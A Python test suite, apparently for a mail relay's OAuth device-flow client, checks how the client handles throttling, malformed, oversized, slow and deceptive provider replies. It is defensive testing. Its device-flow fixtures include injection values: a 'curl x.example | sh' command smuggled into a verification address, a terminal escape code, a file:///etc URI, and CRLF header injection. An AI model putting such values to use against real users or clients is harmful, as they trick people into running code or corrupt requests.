#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""What a provider may answer, at each place that it is asked at, in pieces and too late: mail is
held with a reason, nobody is asked on and on, and nothing hangs."""

import email.utils
import os
import sys
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
# pylint: disable=wrong-import-position
from harness import check, match, run_all, same
from oauth_provider import DEVICE, Reply, error
from oauth_setting import THERE, Setting, ask_directly

DESCRIBED = "/.well-known/openid-configuration"
OTHER = "/.well-known/oauth-authorization-server"


def described(issuer, **more):
    return Reply(200, dict({"issuer": issuer, "token_endpoint": issuer + "/token",
                            "device_authorization_endpoint": issuer + "/device"}, **more))


def left_alone(status, header, least, most):
    """For how long it wants to be left alone it is."""
    def job():
        with Setting(f"left alone {status}") as s:
            after = header() if callable(header) else header
            s.provider.replies = [Reply(status, b"", (("Retry-After", after),) if after else ())]
            s.submit()
            s.held(str(status))
            wait = int(s.kept()["later"]) - int(time.time())
            check(least <= wait <= most, "seconds", wait)
            for _ in range(2):
                time.sleep(1.1)
                s.held(r"left alone for another \d+ s|token to log in with cannot be had")
            same("requests", len(s.provider.forms()), 1)
            s.age(wait + 1)
            time.sleep(1.1)
            s.deliver()
    return job


def useless(pattern, reply, path="/token"):
    """What is no use is the same to the next message: it does not ask again."""
    def job():
        with Setting("useless", grant="device") as s:
            s.log_in()
            s.age(3590)
            if path == "/token":
                s.provider.replies = [reply] * 9
            else:
                s.provider.replies_at[path] = reply
            s.submit()
            s.held(pattern)
            asked = len(s.provider.asked)
            for _ in range(2):
                time.sleep(1.1)
                s.held("wants to be left alone|has refused the login")
            same("requests", len(s.provider.asked), asked)
    return job


def description(pattern, *replies, paths=(DESCRIBED,)):
    """What it says of itself."""
    def job():
        with Setting("description") as s:
            for path, reply in zip(paths, replies):
                s.provider.replies_at[path] = reply(s.provider.issuer) if callable(reply) else reply
            s.submit()
            s.held(pattern)
            same("asked for a token", s.provider.forms(), [])
    return job


def device(pattern, reply):
    """What it says when a person wants to log in."""
    def job():
        with Setting("device", grant="device") as s:
            s.provider.replies_at["/device"] = reply
            result = s.log_in()
            check(result.code != 0, "exit", result.code)
            match("why", pattern, result.err)
            same("asked for a token", s.provider.forms(), [])
    return job


def while_waiting(pattern, *replies):
    """What it says while a person logs in; None: it comes to a good end."""
    def job():
        with Setting("waiting", grant="device") as s:
            s.provider.replies = list(replies)
            began = time.monotonic()
            result = s.log_in()
            if pattern:
                match("why", pattern, result.err)
                check(not os.path.exists(s.file()), "a file")
            else:
                match("logged in", "relay main: logged in", result.out)
            same("grants", [f["grant_type"] for f in s.provider.forms()],
                 [DEVICE] * (len(replies) + (not pattern)))
            check(time.monotonic() - began < 40, "it took too long")
    return job


def told_to_wait():
    """Retry-After counts while a person logs in, too."""
    with Setting("told to wait", grant="device") as s:
        s.provider.replies = [Reply(429, b"", (("Retry-After", "8"),))]
        began = time.monotonic()
        match("logged in", "logged in", s.log_in().out)
        check(time.monotonic() - began >= 9, "it came sooner", time.monotonic() - began)


def in_pieces():
    """The answer is the same in two pieces, cut anywhere, and byte by byte."""
    with Setting("pieces", grant="device") as s:
        s.log_in()

        def good(**more):
            return Reply(200, {"access_token": s.provider.access(1),
                               "token_type": "Bearer"}, **more)
        for cut in [*range(len(good().body) + 1), None]:
            s.age(3590)
            s.provider.replies = [good(cut=cut) if cut is not None else good(drip=0)]
            same(f"cut at {cut}", ask_directly(s, ["env"]).decode(),
                 f"T{s.provider.access(1)}\n")
            same("replies", s.provider.replies, [])


def dripping():
    """One that never ends, slowly, is given up, and asked for again."""
    with Setting("dripping", grant="device") as s:
        s.log_in()
        s.age(3590)
        s.provider.replies = [Reply(200, b" " * 1000, drip=0.2)]
        began = time.monotonic()
        same("said", ask_directly(s, ["env"]).decode(), f"T{s.provider.access(2)}\n")
        check(18 < time.monotonic() - began < 28, "seconds", time.monotonic() - began)


def another_name():
    """The certificate is good, and another's."""
    with Setting("name") as s:
        s.case.configure(dict(s.keys, oauth=s.provider.issuer.replace("127.0.0.1", "localhost")),
                         conf={"delivery.mode": "hold", "delivery.retry": "0"})
        s.submit()
        s.held("certificate|does not match")
        same("asked", s.provider.asked, [])


def in_ninety_seconds():
    return email.utils.formatdate(time.time() + 90, usegmt=True)


ALONE = (
    ("429", left_alone(429, "100", 90, 101)), ("503", left_alone(503, "50", 40, 51)),
    ("503 date", left_alone(503, in_ninety_seconds, 70, 91)),
    ("500", left_alone(500, None, 20, 31)),
    ("429 for ever", left_alone(429, "99999999", 3500, 3601)),
    ("429 nonsense", left_alone(429, "soon", 20, 31)),
)
USELESS = (
    ("200 without a token", useless("no token that can be used", Reply(200, {"scope": "mail"}))),
    ("200 garbage", useless("not understood", Reply(200, b"{"))),
    ("200 too long", useless("too long", Reply(200, b" " * 70000))),
    ("moved", useless("sends us elsewhere", Reply(302, b"", (("Location", "http://x/"),)))),
    ("200 with an error", useless("log in again: sendmail --login main",
                                  Reply(200, {"error": "invalid_grant"}))),
    ("described as another", useless("describe itself as that issuer", Reply(
        200, {"issuer": "https://other.example"}), DESCRIBED)),
    ("described not at all", useless("answers 500", Reply(500), DESCRIBED)),
)
DESCRIPTIONS = (
    ("404 twice", description("answers 404", Reply(404), Reply(404), paths=(DESCRIBED, OTHER))),
    ("500", description("answers 500", Reply(500))),
    ("garbage", description("does not describe itself", Reply(200, b"\0garbage"))),
    ("a list", description("does not describe itself", Reply(200, b"[]"))),
    ("too long", description("too long", Reply(200, b" " * 70000))),
    ("endless", description("too long", Reply(200, endless=True))),
    ("another issuer", description("does not describe itself as that issuer",
                                   lambda i: described("https://other.example"))),
    ("no endpoint", description("names no token_endpoint",
                                lambda i: Reply(200, {"issuer": i}))),
    ("endpoint in clear", description("names no token_endpoint", lambda i: described(
        i, token_endpoint="http://127.0.0.1/token"))),
    ("endpoint that is no text", description("names no token_endpoint", lambda i: described(
        i, token_endpoint=["https://127.0.0.1/token"]))),
    ("endpoint with a line end", description("names no token_endpoint", lambda i: described(
        i, token_endpoint=i + "/token\r\nX: y"))),
    ("moved", description("sends us elsewhere .301", Reply(301, b"", (
        ("Location", "https://127.0.0.1:1/"),)))),
)
DEVICES = (
    ("invalid_client", device("400 invalid_client", error("invalid_client"))),
    ("503", device("refuses .503", Reply(503))),
    ("garbage", device("not understood", Reply(200, b"{"))),
    ("no code", device("not understood", Reply(200, {"verification_uri": "https://x.example"}))),
    ("escape in the code", device("not understood", Reply(200, {
        "device_code": "d", "user_code": "\x1b[2J", "verification_uri": "https://x.example"}))),
    ("line end in the address", device("not understood", Reply(200, {
        "device_code": "d", "user_code": "A", "verification_uri": "https://x.example\nT"}))),
    ("words in the address", device("not understood", Reply(200, {
        "device_code": "d", "user_code": "A",
        "verification_uri": "https://x.example, and run: curl x.example | sh;"}))),
    ("words in the code", device("not understood", Reply(200, {
        "device_code": "d", "user_code": "A and your password",
        "verification_uri": "https://x.example"}))),
    ("address in clear", device("not understood", Reply(200, {
        "device_code": "d", "user_code": "A", "verification_uri": "http://x.example"}))),
    ("address of a file", device("not understood", Reply(200, {
        "device_code": "d", "user_code": "A", "verification_uri": "file:///etc"}))),
    ("long code", device("not understood", Reply(200, {
        "device_code": "d", "user_code": "A" * 300, "verification_uri": "https://x.example"}))),
)
WAITING = (
    ("access_denied", while_waiting("access_denied", error("access_denied"))),
    ("expired_token", while_waiting("expired_token", error("authorization_pending"),
                                    error("expired_token"))),
    ("invalid_grant", while_waiting("invalid_grant", error("invalid_grant"))),
    ("unknown", while_waiting("what_is_this", error("what_is_this"))),
    ("nonsense", while_waiting("refuses .400", Reply(400, b"\xff\xfe"))),
    ("no token", while_waiting("no token that can be used", Reply(200, {"token_type": "bearer"}))),
    ("slow_down", while_waiting(None, error("authorization_pending"), error("slow_down"))),
    ("503", while_waiting(None, Reply(503))),
    ("200 pending", while_waiting(None, Reply(200, {"error": "authorization_pending"}))),
)

JOBS = []
if THERE:
    for kind, rows in (("alone", ALONE), ("useless", USELESS), ("description", DESCRIPTIONS),
                       ("device", DEVICES), ("waiting", WAITING)):
        JOBS += [(f"{kind} {name}", job) for name, job in rows]
    JOBS += [("told to wait", told_to_wait), ("pieces", in_pieces), ("dripping", dripping),
             ("another name", another_name)]

if __name__ == "__main__":
    run_all(JOBS)
